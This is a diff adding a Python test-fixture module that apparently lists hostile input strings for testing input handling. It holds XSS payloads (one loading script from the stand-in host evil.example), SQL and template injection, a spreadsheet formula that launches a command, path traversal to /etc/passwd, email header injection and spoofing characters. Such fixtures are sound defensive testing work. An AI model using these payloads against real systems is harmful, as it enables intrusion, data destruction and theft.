@@ -1,0 +1,28 @@
+"""Texts that mean harm, wherever a text can be put."""
+
+TEXTS = {
+    "nothing": "",
+    "spaces": " \t\r\n ",
+    "a script": "<script>alert(1)</script>",
+    "a script in a drawing": "<svg/onload=alert(1)><script xlink:href='//evil.example/x.js'/></svg>",
+    "out of an attribute": "\"><img src=x onerror=alert(1)>",
+    "a frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "a link that runs": "javascript:alert(1)",
+    "a template": "{{7*7}}{% load static %}{% debug %}",
+    "SQL": "'; DROP TABLE auth_user; --",
+    "NUL": "a\x00b",
+    "control signs": "".join(map(chr, range(1, 32))),
+    "from right to left": "\u202eexe.pdf\u2066\u2069",
+    "without width": "\u200b\ufeff\u2060",
+    "very long": "x" * 100_000,
+    "many accents": "e" + "\u0301" * 5_000,
+    "a formula": "=cmd|'/C calc'!A0",
+    "a number that is none": "9" * 5_000,
+    "negative": "-1",
+    "not a number": "NaN",
+    "a path": "../../../../etc/passwd",
+    "line ends of a header": "a\r\nBcc: all@example.org",
+    "a format": "%(x)s%n{0.__class__.__mro__}",
+    "JSON": '{"$gt": ""}',
+    "a day after all": "99999-99-99",
+}  # fmt: skip
